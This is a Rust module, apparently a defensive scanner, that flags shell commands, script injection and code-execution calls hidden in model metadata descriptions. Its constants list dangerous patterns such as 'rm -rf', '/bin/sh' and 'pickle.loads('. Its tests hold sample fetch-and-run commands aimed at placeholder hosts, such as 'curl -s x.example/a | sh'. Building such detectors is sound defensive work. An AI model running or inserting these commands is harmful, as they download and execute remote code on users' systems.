//! Program text where only descriptions belong.
//!
//! Nothing runs the metadata of a model by itself. What is put there as a command waits for a tool, a page or a person that
//! does, and no description needs it. Descriptions hold words, though, that end as a function is called (`medieval(style)`), and tell where a
//! file can be fetched from.

/// Words, in lower case, that a command or a program has and a description has not.
const WORDS: [&str; 11] = [
    "__import__(",
    "pickle.loads(",
    "b64decode(",
    "<script",
    "javascript:",
    "onerror=",
    "rm -rf ",
    "/bin/sh",
    "powershell ",
    "cmd.exe",
    "chmod 777",
];

/// Likewise where no longer word ends with them.
const NAMES: [&str; 6] = [
    "os.system(",
    "os.popen(",
    "subprocess.",
    "importlib.",
    "exec(",
    "eval(",
];

/// Shells that a command hands on to: after it, a bar and perhaps a space.
const SHELLS: [&str; 2] = ["sh", "bash"];

/// Programs that fetch what another can run.
const FETCHERS: [&str; 2] = ["curl", "wget"];

/// What runs the file that was fetched just before.
const RUNNERS: [&str; 9] = [
    "sh", "bash", "zsh", "sudo", "source", "chmod", "python", "python3", "perl",
];

/// How many words the value of an option has at most: headers have some.
const MAX_VALUES: usize = 8;

/// The word that gives a text away as a program, if there is one.
pub fn found_in(text: &str) -> Option<&'static str> {
    let text = text.to_ascii_lowercase();
    let word = WORDS.iter().copied().find(|word| text.contains(word));
    word.or_else(|| NAMES.into_iter().find(|name| names(&text, name)))
        .or_else(|| FETCHERS.into_iter().find(|fetcher| fetches(&text, fetcher)))
        .or_else(|| text.match_indices('|').find_map(|(at, _)| shell(&text, at)))
}

/// Whether this stands in the text as a name of its own. A call without arguments runs nothing that is in the text (`model.eval()`).
fn names(text: &str, name: &str) -> bool {
    text.match_indices(name).any(|(at, _)| {
        let after = text.get(at + name.len()..).unwrap_or_default();
        let empty = name.ends_with('(') && after.trim_start().starts_with(')');
        begins(text, at) && !empty
    })
}

/// Whether a word can begin at `at`: behind what is no part of a word, or behind the escape of such a character (`\n`, `\u000a`), since texts of
/// JSON in texts of JSON have these.
fn begins(text: &str, at: usize) -> bool {
    let before = text.get(..at).unwrap_or_default();
    if !before.ends_with(|last: char| last.is_alphanumeric() || last == '_') {
        return true;
    }
    // The longest escape has six characters.
    let escape = before
        .bytes()
        .rev()
        .take(6)
        .position(|byte| byte == b'\\')
        .and_then(|length| before.get(at - length..));
    escape.is_some_and(|escape| {
        let is_hex = |digits: &str| digits.bytes().all(|digit| digit.is_ascii_hexdigit());
        match escape.split_at_checked(1) {
            Some(("n" | "r" | "t" | "f" | "v" | "b" | "a" | "0", "")) => true,
            Some(("x", digits)) => digits.len() == 2 && is_hex(digits),
            Some(("u", digits)) => digits.len() == 4 && is_hex(digits),
            _ => false,
        }
    })
}

/// Whether a command fetches something in a way that only commands do: with options, into another program or a file, or with what runs it
/// next. Where a file is to be had is a description (`wget https://…`).
fn fetches(text: &str, fetcher: &str) -> bool {
    text.match_indices(fetcher).any(|(at, _)| {
        let after = text.get(at + fetcher.len()..).unwrap_or_default();
        if !begins(text, at) || !(after.starts_with(char::is_whitespace) || after.starts_with('\\')) {
            return false;
        }
        let substituted = ["$(", "<("].iter().any(|open| {
            text.get(..at)
                .is_some_and(|before| before.trim_end().ends_with(open))
        });
        is_command(after, substituted)
    })
}

/// Whether what follows the name of a fetching program makes it a command: options with their values, and an address, in any order.
fn is_command(after: &str, substituted: bool) -> bool {
    let mut option = substituted;
    let mut address = false;
    // How many words may still be the value of an option.
    let mut values = 0_usize;
    for word in words(after) {
        let is_operator = word.starts_with(['|', ';', '>']) || word.starts_with("&&");
        if address {
            // What follows at once is what is done with it.
            return is_operator || RUNNERS.contains(&word) || word.starts_with("./") || is_option(word);
        }
        if is_option(word) {
            option = true;
            values = MAX_VALUES;
        } else if is_address(word) {
            if option || word.contains([';', '|']) {
                return true;
            }
            address = true;
        } else if is_operator || values == 0 {
            return false;
        } else {
            values -= 1;
        }
    }
    false
}

/// The words of a command, also where white space is escaped.
fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split_whitespace()
        .flat_map(|word| word.split("\\n"))
        .flat_map(|word| word.split("\\t"))
        .flat_map(|word| word.split("\\r"))
        .map(|word| word.trim_matches(['"', '\'', '`', '\\']))
        .filter(|word| !word.is_empty())
}

/// A dash and a letter, or two dashes and a letter: a dash alone joins words.
fn is_option(word: &str) -> bool {
    let name = word
        .strip_prefix('-')
        .map(|rest| rest.strip_prefix('-').unwrap_or(rest));
    name.is_some_and(|name| name.starts_with(|first: char| first.is_ascii_alphanumeric() || first == '#'))
}

/// An address, with or without what says how it is fetched, or a variable that holds one.
fn is_address(word: &str) -> bool {
    let host = word.split(['/', ':', '?']).next().unwrap_or_default();
    let is_host = host.rsplit_once('.').is_some_and(|(name, end)| {
        !name.is_empty() && end.bytes().all(|byte| byte.is_ascii_alphanumeric()) && end.len() > 1
    });
    let has_path = word.len() > host.len();
    word.contains("://") || word.starts_with('$') || (is_host && has_path)
}

/// The shell that the command before the bar at `at` is handed on to. One word before it is no command with an argument, and
/// letters after it make it another word (`rows|shape`).
fn shell(text: &str, at: usize) -> Option<&'static str> {
    let (before, after) = (text.get(..at)?.trim(), text.get(at + 1..)?.trim_start());
    let ends = |rest: &str| !rest.starts_with(|next: char| next.is_alphanumeric() || next == '_');
    let shell = SHELLS
        .into_iter()
        .find(|shell| after.strip_prefix(shell).is_some_and(ends));
    shell.filter(|_| before.contains(char::is_whitespace))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_is_handed_on_to_a_shell_and_a_word_with_a_bar_in_it_is_not() {
        for text in [
            "curl -s x.example/a | sh",
            "base64 -d /tmp/a|bash -s",
            "cat a |  sh; echo",
        ] {
            assert!(found_in(text).is_some(), "{text}");
        }
        for text in ["|sh", "rows|shape", "a table: rows | shape", "| sh", "x|sh"] {
            assert_eq!(found_in(text), None, "{text}");
        }
    }

    #[test]
    fn the_end_of_a_longer_word_is_no_call() {
        for text in [
            "medieval(style), retrieval(x)",
            "{\"10_a\": {\"medieval(style)\": 4}}",
            "literal_eval(x)",
            "trained with pgexec(x)",
            "after model.eval() it is faster",
            "{\"a\": \"\\nmedieval(x)\"}",
            "\\u00e9medieval(x)",
            "macos.system(x)",
        ] {
            assert_eq!(found_in(text), None, "{text}");
        }
        for text in [
            "eval(x)",
            "x=eval('1')",
            "builtins.exec( x)",
            "{\"a\": \"\\neval(x)\"}",
            "{\"a\": \"\\u000aexec(x)\"}",
            "a\\x0aeval(x)",
            "medieval(x); eval(y)",
            "retrieval() or eval(y)",
            "import subprocess; subprocess.run(x)",
        ] {
            assert!(found_in(text).is_some(), "{text}");
        }
    }

    #[test]
    fn a_place_to_fetch_from_is_no_command() {
        for text in [
            "hair curl - side, long hair",
            "hair curl -side view",
            "get it with wget https://a.example/b.safetensors and copy it",
            "`wget https://a.example/b.safetensors`",
            "curl https://a.example/b",
            "wget http is what people wrote once",
            "curly https://a.example; and -o",
            "{\"curl - up\": 1, \"-o\": 2}",
            "curl, seed -1, https://a.example/b",
        ] {
            assert_eq!(found_in(text), None, "{text}");
        }
        for text in [
            "curl -fssl https://a.example/b",
            "wget -qO- http://a.example/b",
            "wget http://a.example/b -O /tmp/b",
            "wget http://a.example/b; ./b",
            "wget http://a.example/b && sh b",
            "wget http://a.example/b\nsh b",
            "wget http://a.example/b\\nchmod +x b",
            "curl http://a.example/b | python",
            "curl http://a.example/b > /tmp/b",
            "curl -s a.example/b -o c",
            "curl -h 'a: b c' a.example/b",
            "sh -c \"$(curl http://a.example/b)\"",
            "curl\\t-s $ADDRESS",
        ] {
            assert!(found_in(text).is_some(), "{text}");
        }
    }
}
